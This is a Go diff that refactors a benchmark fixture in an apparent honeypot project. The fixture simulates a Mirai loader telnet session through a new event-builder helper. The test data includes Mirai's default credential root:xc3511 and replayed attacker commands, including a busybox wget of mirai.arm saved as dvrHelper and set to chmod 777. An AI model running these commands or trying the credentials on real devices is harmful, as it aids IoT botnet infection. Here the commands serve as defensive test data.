@@ -25,45 +25,32 @@ import (
 	"github.com/honeygate/honeygate/internal/event"
 	"github.com/honeygate/honeygate/internal/jsonlog"
 	"github.com/honeygate/honeygate/internal/store/sqlite"
+	"github.com/honeygate/honeygate/internal/testkit/eventkit"
 )
 
 // session returns the events of one Mirai loader session as the telnet
 // sensor produces them (15 events, the same kinds and sizes).
 func session(n int) []event.Event {
 	sid := fmt.Sprintf("%012x", n)
-	pw := event.Text("xc3511")
-	base := event.Event{Sensor: "bench", Proto: "telnet", SrcIP: fmt.Sprintf("198.51.%d.%d", n/250%250, n%250+1),
-		SrcPort: 30000 + n%30000, DstPort: 23, Session: sid, Family: "mirai"}
-	mk := func(k event.Kind, f func(*event.Event)) event.Event {
-		e := base
-		e.ID, e.Time, e.Kind = event.NewID(), time.Now().UTC(), k
-		if f != nil {
-			f(&e)
-		}
-		return e
-	}
-	evs := []event.Event{
-		mk(event.SessionConnect, func(e *event.Event) { e.Family = "" }),
-		mk(event.ClientSize, func(e *event.Event) { e.Width, e.Height = 80, 24 }),
-		mk(event.LoginSuccess, func(e *event.Event) { e.Username, e.Password = "root", &pw }),
-		mk(event.SessionAttributed, func(e *event.Event) {
-			e.Reasons = []string{"mirai-credentials (+1): login with a pair from Mirai's default credential table [credential root:xc3511]"}
-		}),
-	}
+	a := eventkit.New(sid, fmt.Sprintf("198.51.%d.%d", n/250%250, n%250+1), 23, time.Now().UTC(),
+		eventkit.Sensor("bench"), eventkit.SrcPort(30000+n%30000), eventkit.RandomIDs(), eventkit.CarryFamily())
+	evs := []event.Event{a.Connect(0)}
+	a.Family = "mirai" // known from the credentials on: every later event carries it
+	evs = append(evs,
+		a.Size(0, 80, 24),
+		a.Login(0, "root", "xc3511", true),
+		a.Attributed(0, "mirai", "mirai-credentials (+1): login with a pair from Mirai's default credential table [credential root:xc3511]"),
+	)
 	for _, in := range []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI",
 		"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
 		`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
 		"/bin/busybox wget http://127.0.0.1:9/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
 		"exit"} {
-		evs = append(evs, mk(event.CommandInput, func(e *event.Event) { e.Input, e.Output = event.Text(in), "ECCHI: applet not found\n" }))
+		evs = append(evs, a.Command(0, in, "ECCHI: applet not found\n"))
 	}
-	evs = append(evs,
-		mk(event.FileDownload, func(e *event.Event) {
-			e.URL, e.Tool, e.Filename = event.Text("http://127.0.0.1:9/bins/"+sid+"/mirai.arm"), "wget", "/tmp/dvrHelper"
-		}),
-		mk(event.SessionClosed, func(e *event.Event) { e.Duration, e.Bytes, e.Message = 0.4, 900, "client exit" }),
-	)
-	return evs
+	closed := a.Closed(0, "mirai")
+	closed.Duration, closed.Bytes, closed.Message = 0.4, 900, "client exit"
+	return append(evs, a.Download(0, "http://127.0.0.1:9/bins/"+sid+"/mirai.arm", "wget", "/tmp/dvrHelper"), closed)
 }
 
 func BenchmarkPipeline(b *testing.B) {
